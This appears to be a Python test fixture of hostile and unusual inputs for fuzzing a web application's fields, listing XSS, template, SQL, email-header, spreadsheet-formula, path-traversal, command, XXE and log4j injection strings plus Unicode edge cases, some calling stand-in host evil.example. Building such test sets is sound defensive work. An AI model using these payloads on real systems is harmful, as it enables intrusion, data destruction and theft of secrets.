"""What people and programs type who mean harm, or whose language is more than ASCII.

Each that runs would call `hit`. None is longer than a name may be, so that it fits every field.
"""

SCRIPT = [
    "<script>hit()</script>",
    "<ScRiPt>hit()</sCrIpT>",
    "</script><script>hit()</script>",
    "</textarea><script>hit()</script>",
    "</title><script>hit()</script>",
    "--><script>hit()</script><!--",
    "<img src=x onerror=hit()>",
    '"><img src=x onerror=hit()>',
    "'><img src=x onerror=hit()>",
    '" autofocus onfocus=hit() x="',
    "' autofocus onfocus=hit() x='",
    "` onmouseover=hit() x=`",
    "<body onload=hit()>",
    "<details open ontoggle=hit()>",
    "<video><source onerror=hit()>",
    "<input autofocus onfocus=hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'>",
    "<iframe src=javascript:parent.hit()>",
    "<a href=javascript:hit()>x</a>",
    "javascript:hit()",
    "<object data=javascript:hit()>",
    "<embed src=javascript:hit()>",
    "<meta http-equiv=refresh content=0;url=javascript:hit()>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button autofocus>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "\\'-hit()-\\'",
    "</option></select><script>hit()</script>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<<script>hit();//<</script>",
]
SVG = [
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:hit()><text y=9>x</text></a>",
    "<math><mtext></form><form><mglyph><svg onload=hit()>",
]
TEMPLATE = [
    *("{{ 7|add:7 }}", "{% debug %}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{request.user}}"),
    *("{% load log %}{% get_admin_log 9 as x %}", "{{ settings.SECRET_KEY }}", "{# x #}"),
    *("{{''.__class__.__mro__}}", "{% include '/etc/passwd' %}", "{{ x|safe }}", "[[${7*7}]]"),
    *("{php}echo 7*7;{/php}", "@(7*7)", "*{7*7}", "{{=7*7}}", "<#assign x=7*7>"),
]
TYPST = [
    *('#import "@preview/x:1.0.0": *', '#eval("7*7")', '#read("/etc/passwd")', "#panic()"),
    *('#include "/etc/passwd"', "$ sum_(i=1)^n $", "= *x* _y_ @z <b>", "#sys.inputs", "```x```"),
    *("#let x = 7", '#link("//evil.example")[x]', '#image("/etc/hostname")', "// x", "/* x"),
]
SQL = [
    "'; DROP TABLE youths_youth; --",
    "' OR '1'='1",
    "1; SELECT pg_sleep(9)",
    "%' ESCAPE '",
    "\\'; --",
    "$$; SELECT 1; $$",
    *("1 UNION SELECT password FROM accounts_user", "admin'--", '" OR ""="', "a' AND 1=0 --"),
    *(
        "'||(SELECT version())||'",
        "E'\\\\x00'",
        "); DELETE FROM youths_youth; --",
        "COPY x TO '/x'",
    ),
    *("set_config('app.organisation','1',true)", "'; RESET ROLE; --", "%00' OR 1=1 --"),
]
LINES = [
    "Amina\r\nBcc: evil@example.com",
    "Amina\nSubject: won",
    "Amina%0d%0aBcc: evil@example.com",
    "Amina\r\n\r\n<script>hit()</script>",
    "Amina\u2028Bcc: evil@example.com",
    "Amina\u2029Bcc: evil@example.com",
    "Amina\u0085Bcc: evil@example.com",
    "Amina\rBcc: evil@example.com",
    "Amina\n\n.\nMAIL FROM:<evil@example.com>",
    "Amina%0aSet-Cookie: x=1",
    "Amina\r\nContent-Type: text/html",
    "=?utf-8?q?Bcc=3A?= evil@example.com",
    '"Amina" <evil@example.com>, x',
    "Amina\r\n\tfolded: evil@example.com",
]
# What a spreadsheet takes for a formula by how it begins; FORMULA has its neighbours as well.
RUN_BY_A_SPREADSHEET = [
    "=1+1",
    '=HYPERLINK("//evil.example";"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "＝1+1",
    *("=1+1\u200b", "＋1+1", "＠SUM(1)"),
    *('=WEBSERVICE("//evil.example")', '=IMPORTXML("//evil.example";"//a")'),
]
FORMULA = [
    *RUN_BY_A_SPREADSHEET,
    *("\r=1+1", " =1+1", '"=1+1"', ";=1+1", "|=1+1", "−1+1", 'DDE("cmd";"x")'),
]
PATHS = [
    *("../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd\u200b", "file:///etc/passwd"),
    *("%2e%2e%2fetc%2fpasswd", "....//....//etc/passwd", "CON", "NUL", "C:\\", "~/.ssh/id_rsa"),
    *("//evil.example/x", "https://evil.example", "\\\\evil.example\\x", "data:text/html,x"),
]
FORMATS = [
    *("%s%s%s%n", "%x%x%x", "%(name)s", "%(x)s", "%d", "{0}", "{name}", "{self.__class__}", "%%"),
    *("{0.__init__.__globals__}", "%(youngest)s %(missing)s", "$(id)", "`id`", "; ls -la", "&& id"),
    *("| cat /etc/passwd", "$HOME", "%PATH%", "\\0", "\\n\\r", "\\x00", "\\u0000"),
]
DATA = [
    *('{"x": 1}', '"}, {"admin": true', "[]", "null", "None", "undefined", "NaN", "true", "-1"),
    *("<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>", "&y;", "<?xml version='1.0'?>"),
    *("]]>", "<![CDATA[x]]>", "<xi:include href='/etc/passwd'/>", "*)(uid=*", "admin)(&)"),
    *("'; return true; //", '{"$ne": null}', "__proto__", "constructor", "0", "1e309", "0x7f"),
    *("- !!python/object:os.system", "&a [*a, *a]", '<!--#exec cmd="id" -->', "${jndi:ldap://x}"),
]
WRITING = [
    "\u202egnp.exe\u202c",
    "\u2067عامر\u2069",
    "أمينة",
    "ZWSP\u200bZWJ\u200d",
    "\ufeffBOM",
    "👩🏽‍🎓 Amina",
    "𝒜𝓂𝒾𝓃𝒶",
    "Z̸̡̺̈́a̵l̴g̷o̶",
    "İıŞş ÆØÅ æøå ß",
    "Łukasz O’Brien-Ñandú",
    *(
        "Аmіnа",
        "Amina\u0301\u0301\u0301",
        "\u202dAmina\u202c",
        "\u2066Amina\u2069",
        "A\u00adm\u00adina",
    ),
    *(
        "\u200f\u200eAmina",
        "Ⅷ ﬁ ﬀ ㎏",
        "ａｍｉｎａ",
        "👨‍👩‍👧‍👦",
        "🇩🇰",
        "\u2800",
        "\u3164",
        "\u115f",
        "𓂀𓃭",
    ),
    *("漢字かな交じり", "ทดสอบ", "हिन्दी", "ქართული", "עברית", "اردو پشتو", "ትግርኛ አማርኛ", "Ελληνικά"),
    *(
        "\U000e0001\U000e0041",
        "\ufe0f\u20e3",
        "à̀̀̀̀̀̀",
        "﷽" * 3,
        "ﷺ",
        "ı̇",
        "ǅ",
        "\u180e",
        "\u00a0Amina\u00a0",
    ),
    *("m" * 60, "W" * 60, "ﷺ" * 20, "a-" * 30, "👩" * 30, "\u0e47" * 40, "(" * 60, "<" * 60),
]
CONTROL = [f"a{sign}b" for sign in "\x0b\x0c\x7f\x85"]
# What no page takes: neither a database nor an Office file can hold it.
REFUSED = [f"a{sign}b" for sign in "\0\x01\x08\x0e\x1b\x1f\ufffe\uffff"]

# As bytes on the wire, where they are no UTF-8, or say the same in another way.
RAW = [
    *(b"%C0%AF", b"%C0%80", b"%E0%80%AF", b"%F0%80%80%AF", b"%ED%A0%80", b"%ED%A0%BD%ED%B8%80"),
    *(
        b"%FF%FE",
        b"%80",
        b"%E2%82",
        b"%F5%80%80%80",
        b"%F4%90%80%80",
        b"%FF",
        b"%u0041",
        b"%",
        b"%zz",
    ),
    *(b"%2500", b"%253Cscript%253E", b"%EF%BB%BF", b"\xc3\x28", b"\xff\xfe<\x00"),
]
# More than a field holds, up to a megabyte.
TOO_LONG = ["x" * 61, "ø" * 200, "👩" * 61, "<b>" * 1000, "a " * 5000, "x" * 1_000_000]

GROUPS = {
    "script": [*SCRIPT, *SVG],
    "template": [*TEMPLATE, *TYPST],
    "sql and lines": [*SQL, *LINES],
    "formula and paths": [*FORMULA, *PATHS],
    "formats": FORMATS,
    "data": DATA,
    "writing": [*WRITING, *CONTROL],
}
ALL = [text for group in GROUPS.values() for text in group]
LONGEST = 60
